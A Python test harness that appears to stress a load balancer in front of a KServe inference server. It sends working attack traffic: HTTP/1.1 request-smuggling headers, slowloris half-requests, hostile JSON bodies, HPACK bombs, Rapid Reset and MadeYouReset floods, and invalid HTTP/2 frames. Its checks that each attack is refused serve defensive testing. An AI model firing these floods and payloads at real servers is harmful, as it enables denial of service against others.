#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Clients of KServe's protocol, by HTTP/1.1 and by gRPC, that want to harm others, and one that does not.

    kserve_abuse.py VIP PORT INNOCENT ATTACKER...                       a command per line, an answer per line
    kserve_abuse.py --loop ATTACK VIP PORT INNOCENT ATTACKER...         an attack again and again until SIGTERM; says how often

INNOCENT and the ATTACKERs are addresses of this machine. The model `echo` has one input of UINT8, and returns it."""
import os
import select
import signal
import socket
import struct
import sys
import time

import told

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "grpc"))
from frames import CONTINUATION, DATA, GOAWAY, HEADERS, PING, PREFACE, RST, SETTINGS, WINDOW, field, frame, head  # noqa: E402

loop = sys.argv[2] if sys.argv[1] == "--loop" else None
vip, port, INNOCENT, *ATTACKERS = sys.argv[3 if loop else 1:]
LIVE = b"GET /v2/health/live HTTP/1.1\r\nHost: h\r\n\r\n"
CALL, END_STREAM, END_HEADERS = head(b"ModelInfer"), 1, 4
attacking = []


def connect(address):
    return told.connect(address, (vip, int(port)))


def attacker(number=0, sends=b""):
    s = told.connect(ATTACKERS[number % len(ATTACKERS)], (vip, int(port)), resets=True)
    attacking.append(s)
    if sends:
        s.sendall(sends)
    return s


def varint(n):
    return bytes([n & 127 | 128]) + varint(n >> 7) if n > 127 else bytes([n])


def part(number, data):
    return bytes([number << 3 | 2]) + varint(len(data)) + data


def message(data):
    """A ModelInferRequest to echo, with its prefix."""
    tensor = part(1, b"input0") + part(2, b"UINT8") + part(3, varint(len(data)))
    m = part(1, b"echo") + part(5, tensor) + part(7, data)
    return b"\0" + struct.pack(">I", len(m)) + m


def call(stream, data=b"abc"):
    return frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, END_STREAM, stream, message(data))


# --- the innocent ---------------------------------------------------------------------------------------------------

class Http:
    def __init__(self, address):
        self.s = connect(address)
        self.file = self.s.makefile("rb")

    def ask(self, data):
        self.s.sendall(b"POST /v2/models/echo/infer HTTP/1.1\r\nHost: h\r\nInference-Header-Content-Length: 0\r\n"
                       b"Content-Length: %d\r\n\r\n" % len(data) + data)
        lines = [self.file.readline()]
        while lines[-1] not in (b"\r\n", b""):
            lines.append(self.file.readline())
        length = [int(line.split(b":")[1]) for line in lines if line.lower().startswith(b"content-length")]
        if not lines[0].startswith(b"HTTP/1.1 200") or not length or not self.file.read(length[0]).endswith(data):
            raise ValueError(f"HTTP: {lines}")

    def close(self):
        self.file.close()
        self.s.close()


class Grpc:
    def __init__(self, address, settings=b""):
        self.s, self.stream = connect(address), -1
        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.file = self.s.makefile("rb")

    def frame(self):
        h = self.file.read(9)
        if len(h) < 9:
            raise EOFError("closed")
        return h[3], h[4], struct.unpack(">I", h[5:])[0], self.file.read(int.from_bytes(h[:3], "big"))

    def ask(self, data):
        self.stream += 2
        self.s.sendall(call(self.stream, data))
        got, flags, kind = b"", 0, None
        while not (kind == HEADERS and flags & END_STREAM):
            kind, flags, stream, payload = self.frame()
            if kind == GOAWAY or kind == RST and payload != bytes(4):
                raise ValueError(f"gRPC: frame {kind} {payload}")
            got += payload if kind == DATA and stream == self.stream else b""
        if not got.endswith(data):
            raise ValueError(f"gRPC: {got[:60]} {payload}")
        self.s.sendall(frame(WINDOW, 0, 0, struct.pack(">I", len(got))))

    def close(self):
        self.file.close()
        self.s.close()


def ask_both(pair, times):
    for i in range(times):
        for c in pair:
            c.ask(bytes([i + 1]) * (100 + 300 * (i % 4)))
    return "right"


def innocent():
    """Requests on the connections that were there before, each answered right."""
    return ask_both(old, 10)


def fresh():
    """The same on new ones."""
    pair = Http(INNOCENT), Grpc(INNOCENT)
    try:
        return ask_both(pair, 4)
    finally:
        for c in pair:
            c.close()


# --- attacks by HTTP/1.1 --------------------------------------------------------------------------------------------

def heads(n, addresses="1"):
    """Halves of heads on connections of their own."""
    for i in range(int(n)):
        attacker(i % int(addresses), LIVE[:20])
    return "begun"


def to_end(s):
    got = b""
    try:
        while True:
            data = s.recv(65536)
            if not data:
                return got
            got += data
    except TimeoutError:
        raise
    except OSError:
        return got


POST = b"POST /v2/models/echo/infer HTTP/1.1\r\nHost: h\r\n"
MALFORMED = [
    POST + b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST + b"Content-Length: 3\r\nContent-Length: 4\r\n\r\nabc",
    POST + b"Content-Length: 3\r\nContent-Length: 3\r\n\r\nabc",
    POST + b"Content-Length: +3\r\n\r\nabc",
    POST + b"Content-Length: 0x3\r\n\r\nabc",
    POST + b"Content-Length: 3, 3\r\n\r\nabc",
    POST + b"Content-Length: -1\r\n\r\nabc",
    POST + b"Content-Length:\r\n\r\nabc",
    POST + b"Content-Length : 3\r\n\r\nabc",
    POST + b"Content-Length: 3\0\r\n\r\nabc",
    POST + b"Content-Length: 3\n\r\nabc",
    POST + b"Content-Length: 3\r\n X: folded\r\n\r\nabc",
    POST + b"Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: identity\r\nContent-Length: 3\r\n\r\nabc",
    POST + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\n0x1\r\na\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\n1;a\n\r\na\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\n" + b"1;" + b"e" * 2000 + b"\r\na\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n",
    POST[:-4] + b"\r\nHost: other\r\n\r\n",
    POST.replace(b"HTTP/1.1", b"HTTP/1.1 ") + b"\r\n",
    POST.replace(b"HTTP/1.1", b"HTTP/1.1\r") + b"\r\n",
    POST.replace(b" HTTP/1.1", b"\tHTTP/1.1") + b"\r\n",
    POST.replace(b"Host: h\r\n", b"") + b"Content-Length: 0\r\n\r\n",
    POST.replace(b"/v2/", b"http://a@b/v2/") + b"Content-Length: 0\r\n\r\n",
    POST.replace(b"HTTP/1.1", b"HTTP/1.0") + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"GET /\xff HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET /" + b"a" * 5000 + b" HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: h\r\n" + b"a: b\r\n" * 100 + b"\r\n",
]


def malformed():
    """Heads and chunks by which two readers could disagree: one answer, an error, and the end. A request behind them is none."""
    for bytes_ in MALFORMED:
        got = to_end(attacker(0, bytes_ + LIVE))
        if got.count(b"HTTP/1.1 ") != 1 or not 400 <= int(got[9:12]) < 600:
            raise ValueError(f"{bytes_[:120]}: {got[:300]}")
    return f"refused {len(MALFORMED)}"


JSON = [
    b"[" * 100000, b'{"a":' * 20000, b'{"inputs":[{"shape":[4294967296,4294967296,4294967296]',
    b'{"inputs":[{"name":"input0","datatype":"UINT8","shape":[1],"data":[1e999]}]}',
    b'{"inputs":[{"name":"input0","datatype":"UINT8","shape":[1],"data":[-0.5]}]}',
    b'{"inputs":[{"name":"input0","datatype":"UINT8","shape":[1],"data":[1e-400]}]}',
    b'{"inputs":[{"name":"input0","datatype":"UINT8","shape":[1],"data":[9007199254740993]}]}',
    b'{"inputs":[{"name":"input0","datatype":"UINT8","shape":[2],"data":[[1],[[2]]]}]}',
    b'{"inputs":[{"name":"input0","name":"x","datatype":"UINT8","shape":[1],"data":[1]}]}',
    b'{"id":"\\ud800","inputs":[]}', b'{"id":"\xff","inputs":[]}', b'{"id":"\xc0\xaf","inputs":[]}',
    b'{"inputs":[{"name":"input0","datatype":"UINT8","shape":[-1],"data":[]}]}',
    b'{"inputs":[' + b"{}," * 30 + b"{}]}", b'{"inputs":[]}x', b"{", b"", b"nul", b"\0",
]


def json():
    """Bodies that are no request: an error each, and the connection serves on, unless it was closed."""
    s, n = attacker(), 0
    for body in JSON:
        for data in body, body[:-1]:
            s.sendall(POST + b"Content-Length: %d\r\n\r\n" % len(data) + data + LIVE)
            got = b""
            while b'{"live":true}' not in got:
                more = s.recv(65536)
                if not more:
                    raise ValueError(f"{data[:80]}: {got[:300]}")
                got += more
            if got[9:10] not in (b"4", b"5"):
                raise ValueError(f"{data[:80]}: {got[:300]}")
            n += 1
    return f"refused {n}"


def answers(n, addresses="1"):
    """Values in JSON, as many as may be, whose answers are written as long."""
    body = (b'{"inputs":[{"name":"input0","datatype":"UINT8","shape":[60000],"data":[' + b",".join([b"200"] * 60000) + b"]}]}")
    all_ = [attacker(i % int(addresses), POST + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body) for i in range(int(n))]
    if not all(b"200,200]}]}" in to_end(s)[-40:] for s in all_):
        raise ValueError("another answer")
    return f"answered {n}"


def small(n):
    """Requests of few bytes for what is not there."""
    s = attacker()
    for _ in range(int(n) // 100):
        s.sendall(b"GET / HTTP/1.1\r\nHost:\r\n\r\n" * 100)
        got = b""
        while got.count(b'endpoint"}') < 100:
            more = s.recv(1 << 20)
            if not more:
                raise EOFError("closed")
            got += more
    return f"refused {n}"


# --- attacks by HTTP/2 ----------------------------------------------------------------------------------------------

BEGIN = PREFACE + frame(SETTINGS, 0, 0)
SHUT = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))


def shut(n, addresses="1"):
    """Calls, and no window for their answers."""
    calls = b"".join(call(2 * i + 1) for i in range(64))
    for i in range(int(n)):
        attacker(i % int(addresses), SHUT + calls)
    return "sent"


def messages(n, addresses="1"):
    """Messages on 60 streams each, of which the end never comes."""
    part_ = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, CALL) + frame(DATA, 0, 2 * i + 1, message(b"abc")[:9])
                     for i in range(60))
    for i in range(int(n)):
        attacker(i % int(addresses), BEGIN + part_)
    return "sent"


def bombs():
    """Heads that name a field of 4,000 bytes by a byte, again and again."""
    first = CALL + b"\x40\1x\x7f\xa1\x1e" + b"y" * 4000
    yield frame(HEADERS, END_HEADERS, 1, first)
    for i in range(1, 5000):
        yield frame(HEADERS, END_HEADERS, 2 * i + 1, CALL + b"\xbe" * 200)


def rapid():
    """Calls that are begun and given up (CVE-2023-44487)."""
    for i in range(5000):
        yield call(2 * i + 1) + frame(RST, 0, 2 * i + 1, struct.pack(">I", 8))


def provoked():
    """Calls that the load balancer has to reset (CVE-2025-8671)."""
    for i in range(5000):
        yield call(2 * i + 1) + frame(WINDOW, 0, 2 * i + 1, b"\x7f\xff\xff\xff")


def same(bytes_):
    """The same frames until the connection has ended."""
    def frames():
        for _ in range(200000):
            yield bytes_ * 50
    return frames


# Frames that bring nothing, on a connection with a call on stream 1: (one, how many are no flood).
NOTHING = {
    "pings": (frame(PING, 0, 0, b"12345678"), 80),
    "settings": (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), 80),
    "acks": (frame(PING, 1, 0, b"12345678"), 800),
    "empty": (frame(DATA, 0, 1, b""), 800),
    "padding": (frame(DATA, 8, 1, b"\0"), 800),
    "long_padding": (frame(DATA, 8, 1, b"\xff" + bytes(255)), 200),
    "priorities": (frame(2, 0, 5, b"\0\0\0\1\xff"), 800),
    "updates": (frame(WINDOW, 0, 1, b"\0\0\0\1"), 800),
    "late_updates": (frame(WINDOW, 0, 3, b"\0\0\0\1"), 800),
    "unknown": (frame(0x99, 0xff, 7, b"abc"), 800),
}
OPEN = frame(HEADERS, END_HEADERS, 1, CALL) + frame(HEADERS, END_HEADERS, 3, CALL) + frame(RST, 0, 3, struct.pack(">I", 8))
# Each ends its connection.
FLOODS = {
    "bombs": bombs, "rapid": rapid, "provoked": provoked,
    "continuations": same(frame(CONTINUATION, 0, 1, b"")),
    "entries": same(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 100)),
    "windows": same(frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff")),
    "unread": same(NOTHING["pings"][0]),
} | {name: same(one) for name, (one, _) in NOTHING.items()}


def flood(name):
    """Until the other side ends the connection. What it says is read, but for the flood `unread`."""
    first = {"continuations": frame(HEADERS, 0, 1, CALL)}.get(name, OPEN if name in NOTHING else b"")
    s = attacker(0, BEGIN + first)
    try:
        for bytes_ in FLOODS[name]():
            s.sendall(bytes_)
            if name != "unread" and select.select([s], [], [], 0)[0] and not s.recv(65536):
                break
        to_end(s)
    except TimeoutError:
        raise
    except OSError:
        pass
    attacking.remove(s)
    s.close()
    return "ended"


def some(name):
    """As many as are no flood, and then a call on the same connection, which is answered."""
    one, n = NOTHING[name]
    c = Grpc(ATTACKERS[0])
    attacking.append(c)
    c.s.sendall(OPEN + one * n)
    c.stream = 3
    c.ask(b"the last")
    return "lives"


BAD_FRAMES = [
    frame(DATA, 0, 1, bytes(5)), frame(WINDOW, 0, 0, bytes(4)), frame(RST, 0, 1, b"\0"), frame(HEADERS, 4, 2, b""),
    frame(CONTINUATION, 4, 1, b""), frame(PING, 0, 0, b"\0"), frame(5, 4, 1, b"\0\0\0\2\x82"), frame(PING, 0, 1, bytes(8)),
    frame(SETTINGS, 0, 1, b""), frame(SETTINGS, 1, 0, bytes(6)), frame(SETTINGS, 0, 0, b"abc"), frame(GOAWAY, 0, 3, bytes(8)),
    frame(HEADERS, 4, 0, CALL), frame(DATA, 0, 0, bytes(5)), frame(HEADERS, 4, 1, b"\xff\xff\xff\xff\xff\xff"),
    frame(HEADERS, 12, 1, b"\xff"), frame(DATA, 0, 1, bytes(20000)),
    frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 31)), frame(SETTINGS, 0, 0, struct.pack(">HI", 5, 100)),
    frame(HEADERS, 4, 1, CALL) + frame(DATA, 8, 1, b"\x05abc"), b"\0\0\0\0\0\0\0\0\0",
]


def frames():
    """Frames that are not valid: each ends its connection."""
    for bytes_ in BAD_FRAMES:
        try:
            to_end(attacker(0, BEGIN + bytes_))
        except TimeoutError as e:
            raise ValueError(f"{bytes_[:40]}") from e
    return f"ended {len(BAD_FRAMES)}"


# (fields, message, grpc-status or None: an error of HTTP)
def named(name, value):
    return CALL + field(name, value)


CALLS = [
    (CALL, b"\1" + message(b"abc")[1:], b"13"), (named(b"grpc-encoding", b"gzip"), b"\1" + message(b"abc")[1:], b"12"),
    (CALL, b"\2" + message(b"abc")[1:], b"13"), (CALL, b"\0\0\0\0\0", b"3"), (CALL, message(b"abc")[:-1], b"3"),
    (CALL, b"\0", b"3"), (CALL, b"", b"12"), (CALL, b"\0\xff\xff\xff\xff" + bytes(100), b"8"), (named(b"grpc-timeout", b"1x"), b"", b"3"),
    (head(b"Nothing"), b"", b"12"), (CALL.replace(b"application/grpc", b"application/gruc"), b"", None),
    (CALL.replace(b"POST", b"HEAD"), b"", None), (CALL, b"\0\0\0\0\x0b" + b"\x0a\xff\xff\xff\xff\xff\xff\xff\xff\xff\1", b"3"),
    (CALL, b"\0\0\0\0\4\x0b\x0c\x0b\x0c", b"3"), (CALL, b"\0\0\0\0\6" + part(1, b"echo"), b"3"),
    (CALL, message(b"abc").replace(b"\x3a\3abc", b"\x3a\2abc"), b"3"),
]


def calls():
    """Calls that are none: each has its status, and the connection serves on."""
    for fields, data, status in CALLS:
        # New ones: each field of the answer is a literal then.
        c = Grpc(ATTACKERS[0])
        attacking.append(c)
        c.stream += 2
        c.s.sendall(frame(HEADERS, END_HEADERS, c.stream, fields) + frame(DATA, END_STREAM, c.stream, data))
        got, kind, flags = b"", None, 0
        while not (kind == HEADERS and flags & END_STREAM):
            kind, flags, _, payload = c.frame()
            if kind == GOAWAY or kind == RST and payload != bytes(4):
                raise ValueError(f"{data[:40]}: frame {kind} {payload}")
            got += payload if kind == HEADERS else b""
        if status is not None and bytes([len(status)]) + status not in got:
            raise ValueError(f"{data[:40]}: {got} for {status}")
        c.ask(b"after")
    return f"refused {len(CALLS)}"


def sessions(n):
    """As many connections as one client may have, and then some; how many were ended."""
    new = [attacker(0, BEGIN) for _ in range(int(n))]
    end, ended = time.monotonic() + 1, set()
    while time.monotonic() < end:
        for s in select.select([s for s in new if s not in ended], [], [], 0.1)[0]:
            try:
                if not s.recv(65536):
                    ended.add(s)
            except OSError:
                ended.add(s)
    return f"ended {len(ended)}"


def leave():
    for s in attacking:
        s.close()
    attacking.clear()
    return "left"


ATTACKS = (fresh, heads, malformed, json, answers, small, shut, messages, flood, some, frames, calls, sessions, leave)


def again():
    """The attack, again and again."""
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    commands = {f.__name__: f for f in ATTACKS}
    times, failed = 0, 0
    print("ready", flush=True)
    try:
        while True:
            for line in loop.split(","):
                answer = told.do(commands, line)
                failed += ":" in answer
            times += 1
            time.sleep(float(os.environ.get("PAUSE_S", "0")))
            leave()
    finally:
        print('{"times": %d, "failed": %d}' % (times, failed), flush=True)


if loop:
    again()
old = Http(INNOCENT), Grpc(INNOCENT)
told.listen(innocent, *ATTACKS)
